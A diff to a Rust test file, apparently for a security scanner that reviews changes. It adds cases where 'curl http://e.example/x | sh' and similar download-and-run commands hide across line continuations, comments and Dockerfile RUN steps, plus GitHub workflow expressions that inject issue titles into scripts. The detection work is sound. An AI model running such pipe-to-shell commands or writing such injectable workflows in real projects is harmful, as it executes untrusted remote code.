@@ -144,6 +144,22 @@ fn hid_01_continued_lines_are_read_as_one() {
         ("x.c", b"ge\\\nts(b);\n".to_vec(), "c-gets", 1),
         ("a.py", python.into(), "python-shell-request", 3),
     ]);
+    // A comment does not continue, and neither bound nor comment between the lines hides the command.
+    let long = format!("{}curl http://e.example/x \\\n  | sh\n", "true && \\\n".repeat(100));
+    assert_block(&[
+        ("c.sh", format!("# x \\\n{fetch}").into(), "http-pipe-to-shell", 2),
+        ("d.sh", long.into(), "http-pipe-to-shell", 101),
+        ("e.sh", b"wget http://e.example/x -qO- | \n\n # c\n sh\n".to_vec(), "http-pipe-to-shell", 1),
+        ("b/Dockerfile", b"FROM a\nRUN curl http://e.example/x \\\n# c\n  | sh\n".to_vec(), "http-pipe-to-shell", 2),
+    ]);
+    // Lines of the base are not new because another line of the command is.
+    let old = "FROM a\nRUN apt-get update \\\n && curl http://e.example/x \\\n  | sh \\\n && true\n";
+    let new = old.replace("update \\\n", "update \\\n && apt-get install -y jq \\\n");
+    let base = (".base", None, b"x\n".to_vec());
+    let bad = ("a.sh", None, fetch.into());
+    let report = review(&[("Dockerfile", Some(old.into()), new.into()), base, bad]);
+    let files: Vec<_> = report["findings"].as_array().unwrap().iter().map(|f| f["file"].as_str().unwrap()).collect();
+    assert_eq!(files, ["a.sh"], "{report:#}");
     // A finding in one of the lines stands there, once.
     let key = expand("docker run \\\n  -e AWS_ACCESS_KEY_ID=${aws-key-id:AKIA} \\\n  image\n", "hidden");
     let report = review(&[("run.sh", None, key.into())]);
@@ -180,6 +196,14 @@ fn hid_06_other_spellings_of_a_context_are_the_context() {
         "GitHub.Event.Issue.Title",
         "github.event.action == 'opened' && github.event.issue.title",
         "contains(github.event.issue.body, 'x') || github.event.issue.body",
+        "github . event . issue . title",
+        "github.event[ 'issue' ] . title",
+        "format('<{0}>', github.event.issue.title)",
+        "format('{1}', 1 == 1, github.event.issue.title)",
+        "format('{{{0}}}', github.event.issue.title)",
+        "github.event.issue.title.x || github.event.issue.title",
+        "(github.event.action == 'opened' && github.event.issue.title)",
+        "toJSON(github.event)",
     ]
     .iter()
     .enumerate()
@@ -188,4 +212,18 @@ fn hid_06_other_spellings_of_a_context_are_the_context() {
     let cases: Vec<_> =
         cases.iter().map(|(path, text)| (path.as_str(), text.clone(), "workflow-script-injection", 6)).collect();
     assert_block(&cases);
+    let harmless = [
+        "contains(github.event.issue.title, 'x')",
+        "startsWith (github.event.issue.title, 'x') && 'a' || 'b'",
+        "(github.head_ref || github.event.issue.title) == 'main' && 'latest' || 'dev'",
+        "'github.event.issue.title'",
+        "github.event.issue.number",
+        "github.event.inputs.title",
+    ];
+    let repo = Repo::new();
+    for (i, expression) in harmless.iter().enumerate() {
+        repo.stage(&format!(".github/workflows/{i}.yml"), workflow(expression));
+    }
+    let report = repo.review_json(&["staged", "--no-save"], 0);
+    assert_eq!(report["findings"].as_array().unwrap().len(), 0, "{report:#}");
 }
